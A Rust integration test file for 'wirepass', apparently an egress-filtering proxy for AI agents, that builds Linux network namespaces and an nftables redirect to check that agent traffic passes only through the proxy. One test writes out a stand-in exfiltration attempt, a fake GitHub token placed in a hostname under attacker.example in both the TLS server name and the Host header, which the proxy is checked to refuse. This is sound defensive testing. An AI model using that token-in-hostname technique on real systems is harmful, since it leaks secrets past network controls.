//! Issue 16, the sidecar pattern proven rather than described: an "agent" network namespace
//! whose only way out is a veth to the namespace where wirepass runs. That namespace does
//! not forward packets, so the agent reaches the origin ("the internet", the test's own
//! namespace, behind a second veth) through wirepass or not at all. Then transparent mode:
//! an nftables `redirect` in wirepass's namespace hands the agent's direct HTTPS
//! connections to `run --transparent`, which reads the host from SNI.
//!
//! ```text
//!  agent ns                 wirepass ns                       test ns
//!  10.77.N.2 ── veth ── 10.77.N.1   10.78.N.2 ── veth ── 10.78.N.1:443 → the origin
//!  default via 10.77.N.1     no forwarding                    (a relay to 127.0.0.1)
//! ```
//!
//! Needs root and a kernel that lets it make namespaces (CI is root); otherwise each test
//! says why it did not run and passes. The transparent test needs `nft` too (`.ci/run`
//! installs Debian's nftables).

mod support;

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;

use support::cmd::{self, parse_curl, CmdOutput};
use support::{config_yaml, Origin, OriginOptions, SetupOptions, Wirepass};
use tokio::net::{TcpListener, TcpStream};
use wirepass::origin::endpoints;

/// The proxy port and the transparent port inside wirepass's namespace.
const PROXY_PORT: u16 = 8080;
const TRANSPARENT_PORT: u16 = 15001;

/// Two namespaces and their veths, deleted on drop.
struct Net {
    agent: String,
    proxy: String,
    /// The index in the subnets 10.77.N.0/24 (agent side) and 10.78.N.0/24 (origin side).
    n: u8,
    /// The veth end in the test's namespace (deleting it deletes its peer).
    outer: String,
}

impl Net {
    /// Makes the namespaces, or says why it cannot and returns `None`.
    fn make(n: u8) -> Option<Net> {
        if !is_root() {
            eprintln!("SKIPPED: network namespaces need root (CI runs as root)");
            return None;
        }
        let tag = format!("{}{n}", std::process::id() % 100_000);
        let net = Net {
            agent: format!("wpa{tag}"),
            proxy: format!("wpp{tag}"),
            n,
            outer: format!("wo{tag}"),
        };
        let (lan_a, lan_p, out_p) = (
            format!("wla{tag}"),
            format!("wlp{tag}"),
            format!("wop{tag}"),
        );
        let a = net.agent.as_str();
        let p = net.proxy.as_str();
        let (lan, out) = (format!("10.77.{n}"), format!("10.78.{n}"));
        if let Err(e) = sh(&["ip", "netns", "add", a]) {
            eprintln!("SKIPPED: the kernel refused a network namespace: {e}");
            return None;
        }
        let steps: Vec<Vec<String>> = vec![
            vec!["ip netns add", p],
            vec!["ip link add", &lan_a, "type veth peer name", &lan_p],
            vec!["ip link set", &lan_a, "netns", a],
            vec!["ip link set", &lan_p, "netns", p],
            vec!["ip link add", &net.outer, "type veth peer name", &out_p],
            vec!["ip link set", &out_p, "netns", p],
            vec!["ip addr add", &format!("{out}.1/24"), "dev", &net.outer],
            vec!["ip link set", &net.outer, "up"],
            vec!["ip -n", a, "link set lo up"],
            vec![
                "ip -n",
                a,
                "addr add",
                &format!("{lan}.2/24"),
                "dev",
                &lan_a,
            ],
            vec!["ip -n", a, "link set", &lan_a, "up"],
            vec!["ip -n", a, "route add default via", &format!("{lan}.1")],
            vec!["ip -n", p, "link set lo up"],
            vec![
                "ip -n",
                p,
                "addr add",
                &format!("{lan}.1/24"),
                "dev",
                &lan_p,
            ],
            vec!["ip -n", p, "link set", &lan_p, "up"],
            vec![
                "ip -n",
                p,
                "addr add",
                &format!("{out}.2/24"),
                "dev",
                &out_p,
            ],
            vec!["ip -n", p, "link set", &out_p, "up"],
            // The sidecar's namespace is not a router: nothing the agent sends is forwarded.
            vec!["ip netns exec", p, "sysctl -qw net.ipv4.ip_forward=0"],
        ]
        .into_iter()
        .map(|parts| parts.join(" ").split(' ').map(String::from).collect())
        .collect();
        for step in steps {
            let args: Vec<&str> = step.iter().map(String::as_str).collect();
            if let Err(e) = sh(&args) {
                panic!("namespace setup failed at `{}`: {e}", args.join(" "));
            }
        }
        Some(net)
    }

    /// The origin's address as the agent would dial it: the test namespace's veth.
    fn origin_ip(&self) -> String {
        format!("10.78.{}.1", self.n)
    }

    /// Where wirepass listens, inside its namespace.
    fn proxy_ip(&self) -> String {
        format!("10.77.{}.1", self.n)
    }

    /// Runs `args` in the agent's namespace with `env`.
    async fn agent(&self, args: &[&str], env: &BTreeMap<String, String>) -> CmdOutput {
        let mut all = vec!["netns", "exec", self.agent.as_str()];
        all.extend_from_slice(args);
        cmd::run("ip", &all, env).await
    }
}

impl Drop for Net {
    fn drop(&mut self) {
        let _ = sh(&["ip", "link", "del", &self.outer]);
        let _ = sh(&["ip", "netns", "del", &self.agent]);
        let _ = sh(&["ip", "netns", "del", &self.proxy]);
    }
}

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            let line = s.lines().find(|l| l.starts_with("Uid:"))?.to_string();
            line.split_whitespace().nth(2).map(|euid| euid == "0")
        })
        .unwrap_or(false)
}

/// Runs a setup command; its stderr on failure.
fn sh(args: &[&str]) -> Result<(), String> {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .map_err(|e| format!("cannot run {}: {e}", args[0]))?;
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).trim().to_string())
    }
}

/// "The internet": the origin, reachable at `ip:443` on the test namespace's veth.
async fn origin_at(ip: &str, dir: &Path) -> Origin {
    let origin = Origin::start(OriginOptions {
        dns_names: support::ORIGIN_HOSTS
            .iter()
            .map(|s| s.to_string())
            .collect(),
        protocols: support::Protocols::Both,
        git_root: None,
        ca_dir: dir.to_path_buf(),
        apis: None,
    })
    .await
    .unwrap();
    // The origin answers TLS and plain HTTP on its one port: 443 and 80 both lead there.
    let to: SocketAddr = ([127, 0, 0, 1], origin.port()).into();
    for port in [443, 80] {
        let listener = TcpListener::bind((ip, port)).await.unwrap();
        tokio::spawn(async move {
            while let Ok((mut inbound, _)) = listener.accept().await {
                tokio::spawn(async move {
                    if let Ok(mut outbound) = TcpStream::connect(to).await {
                        let _ = tokio::io::copy_bidirectional(&mut inbound, &mut outbound).await;
                    }
                });
            }
        });
    }
    origin
}

/// wirepass in its namespace: the proxy port, the transparent port, and the origin's
/// hosts resolved to the test namespace's veth.
async fn wirepass_in(net: &Net, origin: &Origin) -> Wirepass {
    let o = net.origin_ip();
    let options = SetupOptions {
        allow: vec![format!("{o}/32")],
        resolve: ["api.github.com", "example.test"]
            .iter()
            .flat_map(|h| [443, 80].map(|p| (format!("{h}:{p}"), format!("{o}:{p}"))))
            .collect(),
        ..SetupOptions::default()
    };
    let yaml = config_yaml(&options, origin.port());
    let transparent = format!("{}:{TRANSPARENT_PORT}", net.proxy_ip());
    Wirepass::spawn_in(
        &["ip", "netns", "exec", &net.proxy],
        &format!("{}:{PROXY_PORT}", net.proxy_ip()),
        &yaml,
        origin.ca_pem_path(),
        &["--transparent", &transparent],
    )
    .await
}

/// curl from the agent's namespace to `url` (`https://` or `http://`), with `--resolve`
/// pinning the host to `ip`.
async fn agent_curl(net: &Net, ca: &Path, url: &str, resolve_to: &str, proxy: bool) -> CmdOutput {
    let (port, rest) = match url.strip_prefix("http://") {
        Some(rest) => (80, rest),
        None => (443, url.trim_start_matches("https://")),
    };
    let host = rest.split('/').next().unwrap();
    let resolve = format!("{host}:{port}:{resolve_to}");
    let ca = ca.to_str().unwrap();
    let mut args = vec![
        "curl",
        "-sS",
        "-i",
        "--connect-timeout",
        "3",
        "--max-time",
        "20",
        "--cacert",
        ca,
        "--resolve",
        &resolve,
    ];
    let proxy_url = format!("http://{}:{PROXY_PORT}", net.proxy_ip());
    if proxy {
        args.extend(["--proxy", &proxy_url]);
    }
    args.push(url);
    net.agent(&args, &BTreeMap::new()).await
}

#[tokio::test]
async fn an_agent_in_its_own_namespace_reaches_the_origin_through_wirepass_and_only_through_it() {
    let Some(net) = Net::make(1) else { return };
    let dir = tempfile::tempdir().unwrap();
    let origin = origin_at(&net.origin_ip(), dir.path()).await;
    let proxy = wirepass_in(&net, &origin).await;
    let url = "https://api.github.com/small";

    let through = agent_curl(&net, &proxy.ca_pem(), url, &net.origin_ip(), true).await;
    through.assert_ok("curl through wirepass");
    let (status, _, body) = parse_curl(&through.stdout);
    assert_eq!((status, body.as_str()), (200, endpoints::SMALL_BODY));
    assert_eq!(origin.requests().len(), 1);

    // The same request straight to the origin, trusting the origin's own CA so only the
    // network can stop it: the agent's namespace has no way there but through wirepass.
    let direct = agent_curl(&net, origin.ca_pem_path(), url, &net.origin_ip(), false).await;
    assert_ne!(
        direct.code,
        Some(0),
        "the agent reached the origin directly: {direct:#?}"
    );
    assert!(
        [7, 28].contains(&direct.code.unwrap_or(0)),
        "expected curl to fail to connect (7) or time out (28): {direct:#?}"
    );
    assert_eq!(
        origin.requests().len(),
        1,
        "a direct request reached the origin"
    );

    // And the proxy still decides: a host it does not know is refused on the CONNECT.
    let refused = agent_curl(
        &net,
        &proxy.ca_pem(),
        "https://paste.example/x",
        &net.origin_ip(),
        true,
    )
    .await;
    let (status, headers, _) = parse_curl(&refused.stdout);
    assert_eq!(status, 403, "{refused:#?}");
    assert!(headers.contains(&("x-wirepass-refused".into(), "unknown_host".into())));
    assert_eq!(origin.requests().len(), 1);
}

#[tokio::test]
async fn transparent_mode_takes_redirected_connections_and_refuses_what_it_cannot_place() {
    if Command::new("nft").arg("--version").output().is_err() {
        eprintln!("SKIPPED: nft is not installed (Debian's nftables; .ci/run installs it)");
        return;
    }
    let Some(net) = Net::make(2) else { return };
    let dir = tempfile::tempdir().unwrap();
    let origin = origin_at(&net.origin_ip(), dir.path()).await;
    let proxy = wirepass_in(&net, &origin).await;
    // Every HTTPS connection the agent opens goes to the transparent port.
    let rules = dir.path().join("redirect.nft");
    std::fs::write(
        &rules,
        format!(
            "table ip wirepass {{\n  chain prerouting {{\n    type nat hook prerouting priority dstnat; policy accept;\n    ip saddr 10.77.{}.0/24 tcp dport {{ 80, 443 }} redirect to :{TRANSPARENT_PORT}\n  }}\n}}\n",
            net.n
        ),
    )
    .unwrap();
    let nft = ["ip", "netns", "exec", &net.proxy, "nft", "-f"];
    if let Err(e) = sh(&[&nft[..], &[rules.to_str().unwrap()]].concat()) {
        eprintln!("SKIPPED: the kernel refused the nftables redirect: {e}");
        return;
    }
    let ca = proxy.ca_pem();
    let o = net.origin_ip();

    // A client that ignores proxy variables, dialling the origin: intercepted, decided,
    // forwarded to the host its SNI names.
    let ok = agent_curl(&net, &ca, "https://api.github.com/small", &o, false).await;
    ok.assert_ok("curl redirected to the transparent port");
    let (status, _, body) = parse_curl(&ok.stdout);
    assert_eq!((status, body.as_str()), (200, endpoints::SMALL_BODY));
    let seen = origin.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].authority.as_deref(), Some("api.github.com"));
    proxy
        .log_line(|l| l.contains("api.github.com") && l.contains("allow"))
        .await;

    // A host the config does not know: the SNI is judged like a CONNECT host.
    let unknown = agent_curl(&net, &ca, "https://paste.example/x", &o, false).await;
    assert_ne!(unknown.code, Some(0), "{unknown:#?}");
    proxy.log_line(|l| l.contains("unknown_host")).await;

    // An SNI that does not resolve to where the client was going (10.78.N.9 is not what
    // wirepass resolves api.github.com to): refused, nothing forwarded.
    let elsewhere = format!("10.78.{}.9", net.n);
    let lying = agent_curl(&net, &ca, "https://api.github.com/small", &elsewhere, false).await;
    assert_ne!(lying.code, Some(0), "{lying:#?}");
    proxy
        .log_line(|l| l.contains("does not resolve to") && l.contains(&elsewhere))
        .await;

    // No SNI at all (curl sends none for an IP address): the host is unknown.
    let bare = net
        .agent(
            &[
                "curl",
                "-sS",
                "-k",
                "--connect-timeout",
                "3",
                "--max-time",
                "20",
                &format!("https://{o}/small"),
            ],
            &BTreeMap::new(),
        )
        .await;
    assert_ne!(bare.code, Some(0), "{bare:#?}");
    proxy.log_line(|l| l.contains("no TLS server name")).await;

    // Plain HTTP redirected from port 80: its `Host` names the host, which must resolve to
    // where the client was going; then it is the absolute-form request it stands for.
    let out = agent_curl(&net, &ca, "http://example.test/small", &o, false).await;
    out.assert_ok("plain curl redirected to the transparent port");
    let (status, _, body) = parse_curl(&out.stdout);
    assert_eq!(
        (status, body.as_str()),
        (200, endpoints::SMALL_BODY),
        "{out:#?}"
    );
    let seen = origin.requests();
    assert_eq!(seen.len(), 2);
    assert_eq!(
        (seen[1].path_and_query.as_str(), seen[1].alpn.as_deref()),
        ("/small", None)
    );
    // A service's host over plain HTTP is refused as its absolute form is.
    let service = agent_curl(&net, &ca, "http://api.github.com/small", &o, false).await;
    assert_eq!(parse_curl(&service.stdout).0, 400, "{service:#?}");
    // A `Host` that does not resolve to where the client was going.
    let lying = agent_curl(&net, &ca, "http://example.test/small", &elsewhere, false).await;
    assert_eq!(parse_curl(&lying.stdout).0, 400, "{lying:#?}");
    proxy
        .log_line(|l| l.contains("does not resolve to") && l.contains("host `example.test`"))
        .await;
    assert_eq!(
        origin.requests().len(),
        2,
        "a refused request reached the origin"
    );

    // A head hyper cannot parse is answered in the refusal format, as on the proxy port.
    let garbled = net
        .agent(
            &[
                "bash",
                "-c",
                &format!(
                    "exec 3<>/dev/tcp/{o}/80; printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\nBad Name: v\\r\\n\\r\\n' >&3; timeout 10 cat <&3"
                ),
            ],
            &BTreeMap::new(),
        )
        .await;
    assert!(
        garbled
            .stdout
            .to_ascii_lowercase()
            .contains("x-wirepass-refused: bad_request"),
        "{garbled:#?}"
    );

    // A credential in the name, as the client wrote it (its case is what its checksum
    // reads): refused before anything resolves it, in a TLS server name and in a `Host`.
    let token = support::fake_secret("github-pat", "netns", 1);
    let named = format!("{token}.attacker.example");
    let hello = format!(
        "import socket, ssl\nctx = ssl.create_default_context()\nctx.check_hostname = False\n\
         ctx.verify_mode = ssl.CERT_NONE\ns = socket.create_connection(('{o}', 443), timeout=10)\n\
         try:\n    ctx.wrap_socket(s, server_hostname='{named}')\n    print('handshake')\n\
         except Exception as e:\n    print('refused', type(e).__name__)\n"
    );
    let sni = net
        .agent(&["python3", "-c", &hello], &BTreeMap::new())
        .await;
    assert!(sni.stdout.starts_with("refused"), "{sni:#?}");
    proxy.log_line(|l| l.contains("credential_leak")).await;
    let host = format!("Host: {named}");
    let leak = net
        .agent(
            &[
                "curl",
                "-sS",
                "-i",
                "--max-time",
                "20",
                "-H",
                &host,
                "--resolve",
                &format!("example.test:80:{o}"),
                "http://example.test/small",
            ],
            &BTreeMap::new(),
        )
        .await;
    let (status, headers, _) = parse_curl(&leak.stdout);
    assert_eq!(status, 403, "{leak:#?}");
    assert!(
        headers
            .iter()
            .any(|(k, v)| k == "x-wirepass-refused" && v == "credential_leak"),
        "{headers:?}"
    );
    support::assert_no_secret("the log", &proxy.stderr());

    // Straight to the transparent port, not redirected: there is no original destination.
    let straight = net
        .agent(
            &[
                "curl",
                "-sS",
                "--connect-timeout",
                "3",
                "--max-time",
                "20",
                "--cacert",
                ca.to_str().unwrap(),
                "--resolve",
                &format!("api.github.com:{TRANSPARENT_PORT}:{}", net.proxy_ip()),
                &format!("https://api.github.com:{TRANSPARENT_PORT}/small"),
            ],
            &BTreeMap::new(),
        )
        .await;
    assert_ne!(straight.code, Some(0), "{straight:#?}");
    proxy
        .log_line(|l| l.contains("without being redirected"))
        .await;
    assert_eq!(
        origin.requests().len(),
        2,
        "a refused connection reached the origin"
    );
}
